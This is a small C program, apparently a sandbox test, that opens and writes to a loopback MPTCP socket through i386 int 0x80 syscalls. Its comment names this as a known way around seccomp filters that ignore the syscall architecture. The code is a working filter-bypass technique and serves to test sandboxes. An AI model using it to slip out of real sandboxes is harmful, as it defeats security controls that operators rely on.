/*
 * int80 reaches a loopback TCP port through MPTCP with 32-bit (i386)
 * syscalls made by int 0x80 from a 64-bit process: the classic way around a
 * seccomp filter that compares syscall numbers without checking
 * seccomp_data.arch, since i386 numbers mean other calls than x86_64 ones.
 *
 * Usage: int80 PORT. Exits 0 when the data was sent. Built with -no-pie so
 * that the addresses passed to the 32-bit calls fit in 32 bits.
 */
#include <stdio.h>
#include <stdlib.h>

static long sys32(long nr, long a, long b, long c)
{
	long ret;
	__asm__ volatile("int $0x80"
			 : "=a"(ret)
			 : "a"(nr), "b"(a), "c"(b), "d"(c)
			 : "memory", "r8", "r9", "r10", "r11");
	return ret;
}

enum { i386_write = 4, i386_socket = 359, i386_connect = 362 };

static unsigned char addr[16]; /* struct sockaddr_in */
static char msg[] = "escape i386";

int main(int argc, char **argv)
{
	if (argc != 2) {
		fprintf(stderr, "usage: int80 PORT\n");
		return 2;
	}
	int port = atoi(argv[1]);
	addr[0] = 2; /* AF_INET, little-endian sa_family */
	addr[2] = port >> 8;
	addr[3] = port & 0xff;
	addr[4] = 127;
	addr[7] = 1;

	long fd = sys32(i386_socket, 2, 1, 262); /* AF_INET, SOCK_STREAM, IPPROTO_MPTCP */
	printf("socket %ld\n", fd);
	if (fd < 0)
		return 1;
	long r = sys32(i386_connect, fd, (long)addr, sizeof addr);
	printf("connect %ld\n", r);
	if (r < 0)
		return 1;
	r = sys32(i386_write, fd, (long)msg, sizeof msg - 1);
	printf("write %ld\n", r);
	return r < 0;
}
